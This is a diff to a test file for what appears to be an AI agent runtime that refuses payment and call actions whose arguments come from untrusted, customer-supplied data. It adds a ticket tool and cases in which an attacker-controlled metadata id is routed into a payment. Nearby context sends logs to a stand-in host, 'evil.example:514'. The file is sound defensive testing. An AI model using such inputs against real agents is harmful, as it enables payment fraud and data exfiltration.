@@ -256,6 +256,19 @@ def get_card(_: None, /) -> dict[str, int]:
     return {"card": 4111111111111111}
 
 
+class Ticket(TypedDict):
+    """A ticket, with what its customer attached to it."""
+
+    ticket_id: str
+    metadata: dict[str, str]
+
+
+@box.reads(origin="public")
+def get_ticket(_: None, /) -> Ticket:
+    """Get a ticket."""
+    return {"ticket_id": "t-20077", "metadata": {"user_id": "mallory77"}}
+
+
 @box.destroys
 def drop(_: None, /, *, item_id: int) -> None:
     """Drop an item."""
@@ -419,6 +432,7 @@ def test_a_literal_in_the_persons_own_words_is_trusted(runtime: Runtime) -> None
 def test_an_id_is_the_services_own(runtime: Runtime) -> None:
     """The id of a mail can be passed on, whoever wrote the mail."""
     assert refusal(runtime, f"local m = {MAIL}.list_mails() {MAIL}.close({{ mail_id = m[1].id }})") == ""
+    assert refusal(runtime, f"{BOX}.pay({{ account = {BOX}.get_ticket().ticket_id }})") == ""
     for field in ("phone_number_id", "order_number"):
         assert refusal(runtime, f"{BOX}.pay({{ account = {BOX}.get_form().{field} }})") == ""
 
@@ -621,6 +635,7 @@ def test_an_address_in_disguise_is_that_address(runtime: Runtime, text: str) -> 
             ],
             id="looked up by what the script deciphered",
         ),
+        pytest.param([f"{BOX}.pay({{ account = {BOX}.get_ticket().metadata.user_id }})"], id="an id in a map of texts"),
         pytest.param([f"{BOX}.call_up({{ phone_number = {BOX}.get_form().phone }})"], id="a telephone as a number"),
         pytest.param(
             [f"{BOX}.call_up({{ phone_number = 1, log_endpoints = {{ {page('evil.example:514')}:sub(7) }} }})"],
